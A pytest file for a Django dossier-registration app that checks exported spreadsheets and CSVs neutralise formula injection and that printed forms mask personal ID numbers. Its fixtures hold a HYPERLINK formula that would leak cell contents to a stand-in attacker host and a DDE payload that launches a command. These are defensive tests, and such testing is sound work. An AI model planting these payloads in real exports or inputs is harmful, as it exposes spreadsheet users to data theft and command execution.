"""Issue 15, finding 5: what applicants type reaches exported files as text, never as a formula."""

from __future__ import annotations

import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cchc.core.exports import csv_text

pytestmark = pytest.mark.django_db
TRAP = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm để xem")'


def test_an_applicant_named_like_a_formula_stays_a_name_in_the_register(client, world, tmp_path):
    d = world.received(name=TRAP, address="+84-cmd|' /C calc'!A0")
    client.force_login(world.receptionist)
    response = client.get(
        reverse("dossiers:register"), {"desk": world.commune_desk.pk, "format": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=4) for c in row if c.value]
    trapped = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPER")]
    assert trapped and all(c.data_type == "s" for c in trapped)  # text, not a formula
    assert not any(c.data_type == "f" for c in cells)
    assert d.code in {c.value for c in cells}
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed; checked with openpyxl only")
    path = tmp_path / "so.xlsx"
    path.write_bytes(response.content)
    subprocess.run(
        [office, "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (tmp_path / "so.csv").read_text(encoding="utf-8", errors="replace")
    assert "HYPERLINK" in text  # LibreOffice shows the text as typed, not a link's label


def test_csv_cells_that_a_spreadsheet_would_compute_get_an_apostrophe():
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("-2+3") == "'-2+3"
    assert csv_text("Sở Xây dựng") == "Sở Xây dựng"
    assert csv_text(-5) == -5


def test_printed_forms_show_the_personal_id_masked_only_the_audited_page_shows_it(client, world):
    """Issue 15, finding 4: no path shows the whole ID number without an access record."""
    from pypdf import PdfReader

    from cchc.core.models import AuditEvent

    d = world.received()
    client.force_login(world.receptionist)
    for form in d.forms.all():
        assert "014190001234" not in str(form.data)
        pdf = client.get(f"/api/v1/dossiers/{d.pk}/forms/{form.pk}")
        assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
        text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
        assert "014190001234" not in text
    assert d.forms.filter(kind="receipt").exists()
    assert (
        "014190001234" not in client.get(reverse("dossiers:detail", args=[d.pk])).content.decode()
    )
    assert not AuditEvent.objects.filter(action="dossier.view_personal_data").exists()
    page = client.get(reverse("dossiers:personal", args=[d.pk])).content.decode()
    assert "014190001234" in page
    assert AuditEvent.objects.filter(action="dossier.view_personal_data").count() == 1
